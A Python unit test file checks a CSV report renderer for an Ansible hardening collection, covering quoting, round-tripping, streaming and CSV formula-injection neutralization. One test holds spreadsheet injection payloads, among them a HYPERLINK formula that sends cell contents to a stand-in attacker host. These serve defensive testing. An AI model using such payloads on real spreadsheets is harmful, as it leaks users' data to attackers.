# -*- coding: utf-8 -*-
# Copyright: contributors to hardening.signal
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)

from __future__ import annotations

import csv
import io
import json

import pytest

from ansible_collections.hardening.signal.plugins.module_utils.report import render_csv as rc
from ansible_collections.hardening.signal.plugins.module_utils.report.render_csv import CSV_COLUMNS, iter_csv, render_csv
from ansible_collections.hardening.signal.plugins.module_utils.report.write_reports import FILENAMES, write_reports
from ansible_collections.hardening.signal.tests.unit.plugins.module_utils.report.sample_summary import (
    NASTY_REASON,
    large_summary,
    sample_summary,
)


def _read(text):
    rows = list(csv.reader(io.StringIO(text, newline='')))
    assert tuple(rows[0]) == CSV_COLUMNS
    return [dict(zip(CSV_COLUMNS, row)) for row in rows[1:]]


def test_header_and_dialect():
    text = render_csv(sample_summary())
    assert text.startswith(','.join(CSV_COLUMNS) + '\r\n')
    assert not text.startswith('\ufeff')
    assert text.endswith('\r\n')


def test_one_row_per_subject_and_result():
    summary = sample_summary()
    rows = _read(render_csv(summary))
    expected = []
    for subject in summary['subjects']:
        expected.extend((subject['id'], r['control']) for r in subject['results'])
        if not subject['results']:
            expected.append((subject['id'], ''))
    assert [(r['subject_id'], r['control']) for r in rows] == expected
    assert all(len(r) == len(CSV_COLUMNS) for r in rows)


def test_cells_round_trip():
    rows = {(r['subject_id'], r['control']): r for r in _read(render_csv(sample_summary()))}
    fail = rows[('ws-002', 'SIG-DSK-10')]
    assert fail['reason'] == NASTY_REASON  # newline, |, <script>, & and quotes survive the round trip
    assert (fail['kind'], fail['platform'], fail['owner'], fail['source'], fail['state'], fail['section'],
            fail['status']) == ('workstation', 'windows', 'mallory@example.org', 'workstations', 'ok', '2.10', 'fail')
    assert rows[('mob-001', 'SIG-MOB-01')]['source'] == 'Intune | prod'
    unreachable = rows[('ws-003', '')]
    assert (unreachable['state'], unreachable['status'], unreachable['owner']) == ('unreachable', '', '')
    assert unreachable['reason'].startswith('ssh: connect to host')
    assert rows[('ws-001', 'SIG-DSK-01')]['observed'] == '' and rows[('ws-001', 'SIG-DSK-01')]['expected'] == ''


def test_observed_expected_json_and_waiver_expiry():
    summary = sample_summary()
    first = summary['subjects'][0]['results'][0]
    first.update(observed={'signal.version': '7.40.1', 'b': [1, None, True], 'é': 'ü'}, expected={'min': '7.30.0'})
    waived = summary['subjects'][4]['results'][0]
    waived['evidence'] = {'underlying_status': 'fail', 'waiver': {'id': 'W-12', 'expires': '2025-12-31'}}
    rows = {(r['subject_id'], r['control']): r for r in _read(render_csv(summary))}
    row = rows[('ws-001', 'SIG-DSK-01')]
    assert json.loads(row['observed']) == first['observed'] and json.loads(row['expected']) == first['expected']
    assert 'é' in row['observed']  # UTF-8, not \\u escapes
    assert rows[('mob-002', 'SIG-MOB-01')]['waiver_expires'] == '2025-12-31'
    assert row['waiver_expires'] == ''


@pytest.mark.parametrize('payload', ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1:A9)',
                                     '\t=1+1', '\r=1+1'])
def test_formula_injection_is_neutralized(payload):
    summary = sample_summary()
    subject = summary['subjects'][0]
    subject.update(id=payload, owner=payload, kind=payload, platform=payload, state=payload)
    subject['source']['name'] = payload
    subject['results'][0].update(control=payload, status=payload, reason=payload, observed=-5, expected=payload)
    subject['results'][1]['evidence'] = {'waiver': {'expires': payload}}
    rows = _read(render_csv(summary))
    first, second = rows[0], rows[1]
    for column in ('subject_id', 'kind', 'platform', 'owner', 'source', 'state', 'control', 'status', 'reason'):
        assert first[column] == "'" + payload, column
    assert first['observed'] == "'-5"
    assert first['expected'] == json.dumps(payload)  # JSON text starts with a quote: harmless as it is
    assert second['waiver_expires'] == "'" + payload
    assert rows[2]['reason'] == 'notification setting: count'  # ordinary cells are left alone


def test_cell():
    assert rc.cell(None) == '' and rc.cell(3) == '3' and rc.cell('a=b') == 'a=b' and rc.cell('-') == "'-"


FIELDS = ['', ' ', 'plain', 'a,b', 'say "hi"', '"', '""', 'line\nbreak', 'cr\rhere', 'crlf\r\n', '\t tab', "'quoted'",
          'caf\u00e9 \U0001f600', '\u2028', ';semi;']


def test_fields_are_quoted_as_csv_writer_does():
    # The file is written by hand; every line must be what csv.writer (excel dialect, CRLF) gives for it.
    for first in FIELDS:
        buffer = io.StringIO()
        csv.writer(buffer, dialect='excel', lineterminator='\r\n').writerow([first] + FIELDS)
        assert ','.join(rc.field(text) for text in [first] + FIELDS) + '\r\n' == buffer.getvalue()


def test_hostile_file_is_what_csv_writer_writes():
    summary = sample_summary()
    for index, subject in enumerate(summary['subjects']):
        subject.update(id=FIELDS[index % len(FIELDS)] + str(index), owner=FIELDS[(index + 3) % len(FIELDS)])
        for number, result in enumerate(subject['results']):
            result['reason'] = FIELDS[(index + number) % len(FIELDS)]
            result['observed'] = {FIELDS[number % len(FIELDS)]: [-1, FIELDS[index % len(FIELDS)]]}
    text = render_csv(summary)
    buffer = io.StringIO()
    csv.writer(buffer, dialect='excel', lineterminator='\r\n').writerows(csv.reader(io.StringIO(text, newline='')))
    assert buffer.getvalue() == text


@pytest.mark.parametrize('per_chunk', [1, 2, 500])
def test_streamed_is_the_same_text(monkeypatch, per_chunk):
    monkeypatch.setattr(rc, 'SUBJECTS_PER_CHUNK', per_chunk)
    for summary in (sample_summary(), large_summary(7), large_summary(0)):
        assert ''.join(iter_csv(summary)) == render_csv(summary)


def test_large_fleet_row_count():
    summary = large_summary(2000, results_per_subject=5)
    rows = _read(render_csv(summary))
    unreachable = sum(1 for s in summary['subjects'] if not s['results'])
    assert len(rows) == sum(summary['totals'].values()) + unreachable
    assert sum(1 for r in rows if r['status'] == 'fail') == summary['totals']['fail']


def test_write_reports_writes_the_csv_file(tmp_path):
    paths = write_reports(sample_summary(), str(tmp_path), formats=('csv', 'json'))
    assert paths['csv'] == str(tmp_path / 'fleet-summary.csv') and FILENAMES['csv'] == 'fleet-summary.csv'
    with open(paths['csv'], encoding='utf-8', newline='') as handle:
        assert handle.read() == render_csv(sample_summary())
